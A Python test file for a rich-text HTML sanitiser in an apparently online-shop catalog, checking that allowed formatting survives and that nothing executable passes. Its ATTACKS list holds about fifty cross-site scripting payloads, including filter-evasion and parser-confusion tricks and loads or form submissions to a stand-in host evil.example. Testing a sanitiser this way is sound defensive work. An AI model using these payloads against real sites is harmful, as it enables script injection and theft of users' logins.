"""Rich text: what stays, and that nothing which acts gets through."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mingpu.catalog.rich_text import ATTRIBUTES, TAGS, has_markup, loses, paragraphs, sanitised

OURS = "/media/catalog/0123456789abcdef0123456789abcdef.jpg"


class Seen(HTMLParser):
    """Everything a reader's browser would be told."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(markup)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.words += data


def harmless(markup: str) -> bool:
    for tag, attributes in Seen(markup).tags:
        allowed = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        if tag not in TAGS or not set(attributes) <= allowed:
            return False
        if tag == "img" and not re.fullmatch(
            r"/media/catalog/[0-9a-f]{32}\.(jpg|png|webp|svg)", attributes.get("src") or ""
        ):
            return False
        if tag == "a" and not re.fullmatch(r"(/(?![/\\]).*)?", attributes.get("href") or ""):
            return False
    return True


ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    f"<img src='{OURS}' onload=alert(1)>",
    f"<img src='https://evil.example{OURS}'>",
    f"<img src='//evil.example{OURS}'>",
    "<img src='/media/catalog/../../me/privacy/exports'>",
    f"<img srcset='{OURS} 1x, https://evil.example 2x'>",
    '<img alt="><script>alert(1)</script>">',
    '<img alt="a" alt="> src=" title="><svg onload=alert(1)>">',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='/ok' target=_blank onclick=alert(1) style='position:fixed'>x</a>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button formaction=x>ok</button></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE x [<!ENTITY y 'z'>]>",
    "<p><p><b><i><p></b></i><table><p><tr><td><table></p></td><script>alert(1)",
    "<table><tr><td colspan='99999999' rowspan='-1' onmouseover=alert(1)>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<p id=csrfmiddlewaretoken name=x class=notice data-picker hx-get=/logout hx-trigger=load>x</p>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<img\x0bsrc=x\x0conerror=alert(1)>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<b>" * 3000 + "x",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_gets_through(attack):
    cleaned = sanitised(f"<p>好</p>{attack}")
    assert harmless(cleaned), cleaned
    assert "好" in Seen(cleaned).words
    assert "<script" not in cleaned.lower()


@given(st.text(max_size=200))
def test_no_text_gets_through_as_anything_else(text):
    assert harmless(sanitised(text))


pieces = st.sampled_from(
    ["<p>", "</p>", "<b>", "</b>", "<table>", "<td>", "<svg>", "</svg>", "<math>", "<style>", "</style>", "<img ", 'alt="', '"', "'",
     ">", "<", "<!--", "-->", "<script>", "</script>", "src=x ", "onerror=a ", "<a href=", "javascript:a", "字", "&lt;", "&#60;", "<title>",
     f'<img src="{OURS}" alt="', "<template>", "</template>", "<h1>", "</h2>", "\x00", "<p> </p>"]
)  # fmt: skip


@given(st.lists(pieces, max_size=25).map("".join))
def test_no_mixture_of_markup_gets_through(markup):
    cleaned = sanitised(markup)
    assert harmless(cleaned), cleaned
    assert sanitised(cleaned) == cleaned


def test_what_is_allowed_stays():
    kept = (
        "<h3>材质</h3><p>一<strong>二</strong><em>三</em><br>四</p><ul><li>五</li></ul><ol><li>六</li></ol>"
        '<table><thead><tr><th scope="col">七</th></tr></thead><tbody><tr><td colspan="2">八</td></tr></tbody></table>'
        f'<p><img src="{OURS}" alt="壶"></p>'
    )
    assert sanitised(kept) == kept
    assert not loses(kept)


def test_headings_are_brought_below_the_pages_own():
    assert (
        sanitised("<h1>一</h1><h2>二</h2><h4>三</h4><h6>四</h6>")
        == "<h3>一</h3><h3>二</h3><h4>三</h4><h4>四</h4>"
    )


def test_broken_nesting_is_mended():
    assert sanitised("<p><ul><li>一</p></li>") == "<ul><li>一</li></ul>"
    assert sanitised("<strong>一<p>二") == "<strong>一<p>二</p></strong>"


def test_pictures_of_others_leave_nothing_behind():
    assert sanitised("<p>一</p><p><img src='https://a.example/b.jpg'></p>") == "<p>一</p>"


def test_links_stay_in_the_mall():
    assert sanitised("<a href='/help'>帮助</a>") == '<a href="/help" rel="nofollow">帮助</a>'
    assert "href" not in sanitised("<a href='https://evil.example'>x</a>")


@pytest.mark.parametrize("sign", ["\x01", "\x0b", "\x85", "\u202e", "\ufffe", "&#1;", "&#x202e;", "&#xfffe;"])
def test_what_is_no_text_is_left_out_however_it_is_written(sign):
    assert sanitised(f"<p>慢{sign}稳</p>") == "<p>慢稳</p>"
    assert "href" not in sanitised(f'<a href="/{sign}/evil.example">x</a>')


def test_joiners_and_lines_are_text():
    assert sanitised("<p>👨\u200d👩\n稳</p>") == "<p>👨\u200d👩\n稳</p>"


def test_very_long_markup_is_cut_and_closed():
    cleaned = sanitised("<ul>" + "<li>一</li>" * 50_000)
    assert cleaned.endswith("</ul>")
    assert len(cleaned) < 120_000


@pytest.mark.parametrize(
    ("text", "said"), [("一 < 二", False), ("a<b>c", True), ("<br>", True), ("&lt;p&gt;", False)]
)
def test_markup_is_known_when_it_is_seen(text, said):
    assert has_markup(text) is said


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("<p>一</p>", False),
        ("<h2>一</h2>", False),
        ("<p class=x>一</p>", True),
        ("<div>一</div>", True),
        ("<!--x-->", True),
    ],
)
def test_it_is_told_what_is_lost(text, said):
    assert loses(text) is said


@given(st.text(max_size=300))
def test_plain_text_as_markup_says_the_same(text):
    markup = paragraphs(text)
    assert harmless(markup)
    assert {tag for tag, _ in Seen(markup).tags} <= {"p"}
    assert "".join(Seen(markup).words.split()) == "".join(text.split())
